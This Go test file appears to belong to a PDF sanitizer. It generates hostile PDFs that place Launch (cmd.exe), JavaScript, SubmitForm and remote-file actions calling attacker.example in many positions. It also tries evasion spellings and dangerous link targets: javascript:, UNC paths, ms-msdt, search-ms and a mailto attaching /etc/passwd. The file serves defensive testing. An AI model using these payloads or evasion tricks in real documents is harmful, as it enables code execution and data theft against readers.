package e2e

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"
)

var xrefOffset = regexp.MustCompile(`[0-9]{10} 00000 n`)

// The PDF sweep places every action type a reader runs in every key that carries one,
// spelled every way a reader resolves, and judges the engine's output with qpdf (objects
// expanded, names decoded): no action type but GoTo, URI and Named may remain, and every
// URI must be a web or mail address (judgePDFLinks).

// sweepActions are the action bodies, with %s where the type goes.
var sweepActions = map[string]string{
	"GoToR":            "<< /S %s /F (//attacker.example/share/x.pdf) /D [0 /Fit] /NewWindow true >>",
	"GoToE":            "<< /S %s /T << /R /C /N (payload) >> /NewWindow true >>",
	"GoToDp":           "<< /S %s /Dp 9 0 R >>",
	"Launch":           "<< /S %s /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe) >> >>",
	"SubmitForm":       "<< /S %s /F << /FS /URL /F (https://attacker.example/c) >> /Flags 4 >>",
	"ImportData":       "<< /S %s /F (//attacker.example/share/data.fdf) >>",
	"ResetForm":        "<< /S %s /Flags 1 >>",
	"JavaScript":       "<< /S %s /JS (app.launchURL\\(\"https://attacker.example/\"\\)) >>",
	"Rendition":        "<< /S %s /OP 0 /JS (app.alert\\(1\\)) >>",
	"Hide":             "<< /S %s /T (field) /H false >>",
	"Thread":           "<< /S %s /F (//attacker.example/share/t.pdf) /D 0 >>",
	"Sound":            "<< /S %s /Sound << /Type /Sound /R 8000 /Length 0 >> >>",
	"Movie":            "<< /S %s /T (movie) /Operation /Play >>",
	"SetOCGState":      "<< /S %s /State [/OFF] >>",
	"Trans":            "<< /S %s /Trans << /S /Dissolve >> >>",
	"GoTo3DView":       "<< /S %s /TA << >> /V 0 >>",
	"RichMediaExecute": "<< /S %s /TA << >> /CMD << /C (x) >> >>",
}

// sweepURIs are link targets readers open outside a browser, each as the PDF string text.
var sweepURIs = map[string]string{
	"javascript":          "(javascript:app.alert\\(1\\))",
	"javascript-hex":      "<6A617661736372697074 3A 6170702E616C657274283129>",
	"javascript-utf16":    "<FEFF006A00610076006100730063007200690070007400" + "3A0031>",
	"javascript-lead-tab": "(\\tjavascript:app.alert\\(1\\))",
	"javascript-lead-nul": "(\\000javascript:1)",
	"javascript-nl":       "(java\\nscript:1)",
	"file-mixed-case":     "(FiLe://attacker.example/share/x.exe)",
	"file-percent":        "(%66ile://attacker.example/share/x.exe)",
	"unc":                 "(\\\\\\\\attacker.example\\\\share\\\\x.exe)",
	"unc-utf16":           "<FEFF005C005C00610074007400610063006B00650072005C0073005C0078002E006500780065>",
	"ms-msdt":             "(ms-msdt:/id PCWDiagnostic /skip force)",
	"ms-word":             "(ms-word:ofe|u|https://attacker.example/x.docx)",
	"search-ms":           "(search-ms:query=x&crumb=location:\\\\\\\\attacker.example\\\\s)",
	"mailto-attach":       "(mailto:a@example.invalid?attach=file:///etc/passwd)",
}

// sweepPositions return a document's objects with the action as object 6 (its reference
// written where the position takes an action); objects 1–5 are the catalog, page tree,
// page, contents and font. Extra objects follow from 7.
var sweepPositions = map[string]func() []string{
	"openaction": func() []string { return pdfBase("/OpenAction 6 0 R", "") },
	"catalog-aa": func() []string { return pdfBase("/AA << /WC 6 0 R /DP 6 0 R >>", "") },
	"page-aa":    func() []string { return pdfBase("", "/AA << /O 6 0 R >>") },
	"link-a": func() []string {
		return pdfBase("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A 6 0 R >>]")
	},
	"link-next": func() []string {
		return pdfBase("", "/Annots [<< /Subtype /Link /Rect [72 600 300 630] /A << /S /GoTo /D [3 0 R /Fit] /Next [6 0 R] >> >>]")
	},
	"annot-aa": func() []string {
		return pdfBase("", "/Annots [<< /Subtype /Square /Rect [72 600 300 630] /AA << /E 6 0 R /PO 6 0 R >> >>]")
	},
	"widget-a": func() []string {
		o := pdfBase("/AcroForm << /Fields [7 0 R] >>", "/Annots [7 0 R]")
		return append(o, "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 500 200 530] /P 3 0 R /A 6 0 R /MK << /CA (Send) >> >>")
	},
	"field-aa": func() []string {
		o := pdfBase("/AcroForm << /Fields [7 0 R] >>", "/Annots [8 0 R]")
		return append(o, "<< /FT /Tx /T (name) /Kids [8 0 R] /AA << /K 6 0 R /F 6 0 R /V 6 0 R /C 6 0 R >> >>",
			"<< /Type /Annot /Subtype /Widget /Parent 7 0 R /Rect [72 500 200 530] /P 3 0 R /AA << /Fo 6 0 R >> >>")
	},
	"outline": func() []string {
		o := pdfBase("/Outlines 7 0 R", "")
		return append(o, "<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>", "<< /Title (Open) /Parent 7 0 R /A 6 0 R >>")
	},
	"names-javascript": func() []string {
		o := pdfBase("/Names << /JavaScript 7 0 R >>", "")
		return append(o, "<< /Names [(init) 6 0 R] >>")
	},
}

// pdfBase is a one-page document with text, cat and page adding keys to the catalog and
// the page; index 5 (object 6) is left for the action.
func pdfBase(cat, page string) []string {
	return []string{
		"<< /Type /Catalog /Pages 2 0 R " + cat + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> " + page + " >>",
		"<< /Length 42 >>\nstream\nBT /F1 24 Tf 72 700 Td (Hello world) Tj ET\nendstream",
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
		"",
	}
}

// pdfSpellings write objs (object 6 an action of type typ, body with %s for the type) the
// ways a reader resolves: the type inline, behind a reference, #xx-escaped; the action
// inside an object stream; the action written by an incremental update over a harmless
// one; and two definitions of the action's object behind an xref a reader must rebuild.
var pdfSpellings = map[string]func(objs []string, typ, body string) []byte{
	"inline": func(objs []string, typ, body string) []byte {
		objs[5] = fmt.Sprintf(body, "/"+typ)
		return pdfObjects(objs)
	},
	"type-ref": func(objs []string, typ, body string) []byte {
		objs[5] = fmt.Sprintf(body, fmt.Sprintf("%d 0 R", len(objs)+1))
		return pdfObjects(append(objs, "/"+typ))
	},
	"type-escaped": func(objs []string, typ, body string) []byte {
		var e strings.Builder
		for i, c := range []byte(typ) {
			if i%2 == 0 {
				fmt.Fprintf(&e, "#%02x", c)
			} else {
				e.WriteByte(c)
			}
		}
		objs[5] = fmt.Sprintf(body, "/"+e.String())
		return pdfObjects(objs)
	},
	"object-stream": func(objs []string, typ, body string) []byte {
		objs[5] = fmt.Sprintf(body, "/"+typ)
		return pdfObjStm(objs, map[int]bool{6: true, 1: true})
	},
	"incremental-update": func(objs []string, typ, body string) []byte {
		objs[5] = "<< /S /GoTo /D [3 0 R /Fit] >>"
		base := pdfObjects(objs)
		return pdfUpdate(base, 6, fmt.Sprintf(body, "/"+typ))
	},
	"broken-xref-two-definitions": func(objs []string, typ, body string) []byte {
		objs[5] = "<< /S /GoTo /D [3 0 R /Fit] >>"
		b := pdfObjects(objs)
		// Zero every offset and add a second object 6 after the first: a reader rebuilds
		// the table by scanning, and scanners keep the last definition.
		x := bytes.LastIndex(b, []byte("xref\n"))
		tail := xrefOffset.ReplaceAll(b[x:], []byte("0000000000 00000 n"))
		var out bytes.Buffer
		out.Write(b[:x])
		fmt.Fprintf(&out, "6 0 obj\n%s\nendobj\n", fmt.Sprintf(body, "/"+typ))
		out.Write(tail)
		return out.Bytes()
	},
}

// pdfObjects writes objs as objects 1..n with a classic xref table.
func pdfObjects(objs []string) []byte {
	return mkpdf(objs...)
}

// pdfObjStm writes objs with those in packed (1-based numbers) inside one object stream,
// and a cross-reference stream (PDF 1.5, 7.5.7 and 7.5.8).
func pdfObjStm(objs []string, packed map[int]bool) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	n := len(objs)
	stm, xrefNr := n+1, n+2
	type entry struct{ kind, a, b int }
	ent := make([]entry, xrefNr+1)
	var head, body bytes.Buffer
	idx := 0
	for i, o := range objs {
		nr := i + 1
		if packed[nr] {
			fmt.Fprintf(&head, "%d %d ", nr, body.Len())
			body.WriteString(o + "\n")
			ent[nr] = entry{2, stm, idx}
			idx++
			continue
		}
		ent[nr] = entry{1, b.Len(), 0}
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", nr, o)
	}
	ent[stm] = entry{1, b.Len(), 0}
	data := head.String() + body.String()
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Length %d >>\nstream\n%s\nendstream\nendobj\n", stm, idx, head.Len(), len(data), data)
	ent[xrefNr] = entry{1, b.Len(), 0}
	var rows bytes.Buffer
	for i, e := range ent {
		if i == 0 {
			rows.Write([]byte{0, 0, 0, 0, 0, 0xff, 0xff})
			continue
		}
		rows.Write([]byte{byte(e.kind), byte(e.a >> 24), byte(e.a >> 16), byte(e.a >> 8), byte(e.a), byte(e.b >> 8), byte(e.b)})
	}
	fmt.Fprintf(&b, "%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n", xrefNr, xrefNr+1, rows.Len())
	x := ent[xrefNr].a
	b.Write(rows.Bytes())
	fmt.Fprintf(&b, "\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", x)
	return b.Bytes()
}

// pdfUpdate appends an incremental update that redefines object nr as body.
func pdfUpdate(base []byte, nr int, body string) []byte {
	prev := bytes.LastIndex(base, []byte("startxref\n"))
	var prevX int
	fmt.Sscanf(string(base[prev+len("startxref\n"):]), "%d", &prevX)
	size := bytes.Count(base, []byte(" 0 obj\n")) + 1
	var b bytes.Buffer
	b.Write(base)
	off := b.Len()
	fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", nr, body)
	x := b.Len()
	fmt.Fprintf(&b, "xref\n%d 1\n%010d 00000 n \ntrailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n", nr, off, size, prevX, x)
	return b.Bytes()
}

// TestSweepPDFActions: every action type × every position with the type behind a
// reference; Launch, JavaScript and SubmitForm also in every spelling.
func TestSweepPDFActions(t *testing.T) {
	var cases []advCase
	for pos, place := range sweepPositions {
		for typ, body := range sweepActions {
			if pos == "names-javascript" && typ != "JavaScript" {
				continue
			}
			for how, spell := range pdfSpellings {
				if how != "type-ref" && typ != "Launch" && typ != "JavaScript" && typ != "SubmitForm" {
					continue
				}
				cases = append(cases, advCase{"pdf/" + pos + "-" + typ + "-" + how, "a.pdf", "", spell(place(), typ, body), "safe", ""})
			}
		}
	}
	// Containers of script and files rather than actions: an XFA form (its script runs in
	// Acrobat) and an embedded executable, each plain and behind an object stream.
	xfa := pdfBase("/AcroForm << /Fields [] /XFA [(template) 6 0 R] /NeedsRendering true >>", "")
	xfa[5] = "<< /Length 145 >>\nstream\n<template><subform><event activity=\"initialize\"><script contentType=\"application/x-javascript\">app.alert(1)</script></event></subform></template>\nendstream"
	ef := pdfBase("/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >> /PageMode /UseAttachments", "")
	ef[5] = "<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 7 0 R >> >>"
	ef = append(ef, "<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\x90\x00\nendstream")
	for name, objs := range map[string][]string{"acroform-xfa": xfa, "names-embeddedfiles": ef} {
		cases = append(cases,
			advCase{"pdf/" + name, "a.pdf", "", pdfObjects(append([]string(nil), objs...)), "safe", ""},
			advCase{"pdf/" + name + "-object-stream", "a.pdf", "", pdfObjStm(append([]string(nil), objs...), map[int]bool{1: true, 6: true}), "safe", ""})
	}
	runSweep(t, cases)
}

// TestSweepPDFLinks: URI actions whose target opens outside a browser, in every position
// and spelling, and as a link annotation's /PA.
func TestSweepPDFLinks(t *testing.T) {
	var cases []advCase
	for pos, place := range sweepPositions {
		if pos == "names-javascript" {
			continue
		}
		for u, target := range sweepURIs {
			for how, spell := range pdfSpellings {
				if how != "type-ref" && how != "object-stream" && how != "incremental-update" {
					continue
				}
				cases = append(cases, advCase{"pdf/" + pos + "-uri-" + u + "-" + how, "a.pdf", "", spell(place(), "URI", "<< /S %s /URI "+target+" >>"), "safe", ""})
			}
		}
	}
	for u, target := range sweepURIs {
		objs := pdfBase("", "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 600 300 630] /A << /S /GoTo /D [3 0 R /Fit] >> /PA 6 0 R >>]")
		objs[5] = "<< /S /URI /URI " + target + " >>"
		cases = append(cases, advCase{"pdf/link-pa-uri-" + u, "a.pdf", "", pdfObjects(objs), "safe", ""})
	}
	runSweep(t, cases)
}

// runSweep is runCases without recording (the sweeps are generated at test time; their
// classes have committed representatives in the corpus), after proving that the judges
// see each input's active content: a blind judge fails the case instead of passing it.
func runSweep(t *testing.T, cases []advCase) {
	t.Helper()
	for _, c := range cases {
		found, err := inspect(c.data, c.file, 0)
		if strings.HasSuffix(c.file, ".pdf") {
			// A reader that rebuilds a broken table may take another definition than
			// qpdf does: the raw objects are searched too.
			found = append(append(found, grepPDF(c.data, c.file)...), judgePDFLinks(c.data, c.file)...)
		}
		if err == nil && len(found) == 0 {
			t.Errorf("%s: the judges find nothing in the input", c.name)
		}
	}
	saved := *update
	*update = false
	defer func() { *update = saved }()
	runCases(t, cases)
}
